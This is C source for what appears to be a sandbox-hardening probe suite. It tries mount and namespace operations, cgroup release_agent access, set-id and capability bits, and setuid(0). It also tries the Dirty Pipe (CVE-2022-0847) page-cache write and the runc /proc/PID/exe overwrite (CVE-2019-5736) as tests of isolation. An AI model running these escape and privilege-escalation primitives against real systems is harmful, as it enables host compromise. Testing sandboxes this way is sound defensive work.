/* files: mounts, set-id bits, files that only may be read; groups of probe. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <sched.h>
#include <stdlib.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "probe.h"

/* --- undoing what is mounted --------------------------------------------------------------------- */

static void remount(const char *path)
{
	char what[128];
	snprintf(what, sizeof what, "remount %s", path);
	for (char *c = what + 8; *c; c++)
		*c = *c == ' ' ? '_' : *c;
	what[7] = '-';
	say(what, mount("none", path, 0, MS_REMOUNT | MS_BIND, 0));
	what[0] = 'R';
	say(what, mount("none", path, 0, MS_REMOUNT, 0));
}

void probe_mounts(void)
{
	static const char *places[] = {"/", "/usr", "/proc", "/probe", "/sys/fs/cgroup", "/dev"};
	struct { unsigned long set, clr, propagation, fd; } attr = {0, 1 /* MOUNT_ATTR_RDONLY */, 0, 0};
	for (size_t i = 0; i < LEN(places); i++)
		remount(places[i]);
	say("bind-over", mount("/tmp", "/usr", 0, MS_BIND, 0));
	say("bind-out", mount("/probe", "/tmp", 0, MS_BIND | MS_REC, 0));
	say("move", mount("/probe", "/tmp", 0, MS_MOVE, 0));
	say("propagation", mount("none", "/", 0, MS_SHARED | MS_REC, 0));
	say("umount-probe", umount2("/probe", MNT_DETACH));
	say("umount-proc", umount2("/proc", MNT_DETACH));
	say("umount-mask", umount2("/proc/keys", MNT_DETACH));
	say("mount-proc", mount("proc", "/tmp", "proc", 0, 0));
	say("mount-sysfs", mount("sysfs", "/tmp", "sysfs", 0, 0));
	say("mount-tmpfs", mount("tmpfs", "/tmp", "tmpfs", 0, 0));
	say("mount-overlay", mount("overlay", "/tmp", "overlay", 0, "lowerdir=/usr:/etc"));
	say("mount-cgroup", mount("cgroup", "/tmp", "cgroup", 0, "memory"));
	say("mount-cgroup2", mount("cgroup2", "/tmp", "cgroup2", 0, 0));
	say("mount-disk", mount("/dev/vda", "/tmp", "ext4", 0, 0));
	say("mount_setattr", syscall(442, AT_FDCWD, "/probe", 0, &attr, sizeof attr));
	say("open_tree", syscall(428, AT_FDCWD, "/probe", 1 /* OPEN_TREE_CLONE */));
	say("move_mount", syscall(429, AT_FDCWD, "/probe", AT_FDCWD, "/tmp", 0));
	say("fsopen", syscall(430, "tmpfs", 0));
	say("fspick", syscall(433, AT_FDCWD, "/probe", 0));
	say("pivot_root", syscall(SYS_pivot_root, "/tmp", "/tmp"));
	say("unshare-user", unshare(CLONE_NEWUSER));
	say("unshare-user-mount-cgroup", unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP));
	say("release_agent", open("/sys/fs/cgroup/memory/release_agent", O_WRONLY));
}

/* --- set-id files and privileges ----------------------------------------------------------------- */

void probe_setid(void)
{
	int fd = open("file", O_CREAT | O_RDWR, 0755);
	say("create", fd);
	say("chmod", chmod("file", 04755));
	say("chmod-gid", chmod("file", 02755));
	say("fchmod", fchmod(fd, 06755));
	say("fchmodat", fchmodat(AT_FDCWD, "file", 04755, 0));
	say("fchmodat2", syscall(452, AT_FDCWD, "file", 04755, 0));
	say("creat", creat("creat", 04755));
	say("open", open("open", O_CREAT | O_WRONLY, 04755));
	say("openat", openat(AT_FDCWD, "openat", O_CREAT | O_WRONLY, 02755));
	say("tmpfile", open(".", O_TMPFILE | O_WRONLY, 04755));
	struct { unsigned long flags, mode, resolve; } how = {O_CREAT | O_WRONLY, 04755, 0};
	say("openat2", syscall(437, AT_FDCWD, "openat2", &how, sizeof how));
	say("mknod", mknod("mknod", S_IFREG | 04755, 0));
	say("mknod-disk", mknod("disk", S_IFBLK | 0666, 0x100));
	say("mkdir", mkdir("dir", 06755));
	say("chmod-dir", chmod("dir", 02755));
	say("setcap", syscall(SYS_setxattr, "file", "security.capability", "\1\0\0\2\0\20\0\0\0\0\0\0\0\0\0\0\0\0\0\0", 20, 0));
	say("chown", chown("file", 0, 0));
	say("plain", chmod("file", 0755));
}

/* privileges says what this process has; run from a set-id or capable file. */
void probe_privileges(void)
{
	uid_t r, e, s;
	getresuid(&r, &e, &s);
	printf("uid %d-%d-%d\n", (int)r, (int)e, (int)s);
	say("setuid", setuid(0));
	char line[256];
	FILE *f = fopen("/proc/self/status", "r");
	while (f && fgets(line, sizeof line, f))
		if (!strncmp(line, "Cap", 3) || !strncmp(line, "NoNewPrivs", 10)) {
			char *value = strchr(line, ':');
			*value = 0;
			printf("%s %s", line, value + 2);
		}
}

/* --- files that only may be read ----------------------------------------------------------------- */

/* dirty tries to write into the page cache of a file that was opened for reading (CVE-2022-0847). */
void probe_dirty(void)
{
	int fd = open("/probe/canary", O_RDONLY), pipes[2];
	loff_t offset = 1;
	static char page[65536];
	if (fd < 0 || pipe(pipes) < 0) {
		say("setup", -1);
		return;
	}
	int size = fcntl(pipes[1], F_GETPIPE_SZ);
	for (int n = 0; n < size; n += 4096)
		say("fill", write(pipes[1], page, 4096));
	for (int n = 0; n < size; n += 4096)
		say("drain", read(pipes[0], page, 4096));
	say("splice", splice(fd, &offset, pipes[1], 0, 1, 0));
	say("write", write(pipes[1], "HACKED", 6));
	say("open-write", open("/probe/canary", O_WRONLY));
	say("chmod", chmod("/probe/canary", 0777));
	say("unlink", unlink("/probe/canary"));
	say("rename", rename("/probe/canary", "/probe/other"));
	say("create", open("/probe/new", O_CREAT | O_WRONLY, 0644));
}

/* executable tries to overwrite every program that runs (CVE-2019-5736). */
void probe_executable(void)
{
	char path[64];
	for (int pid = 1; pid < 300; pid++) {
		snprintf(path, sizeof path, "/proc/%d/exe", pid);
		int fd = open(path, O_WRONLY | O_TRUNC);
		if (fd >= 0 || (errno != ENOENT && errno != EACCES && errno != ETXTBSY && errno != EROFS && errno != EPERM))
			say(path, fd);
		fd = open(path, O_PATH);
		snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
		if (fd >= 0 && (fd = open(path, O_WRONLY | O_TRUNC)) >= 0)
			say(path, fd);
	}
	printf("done OK\n");
}
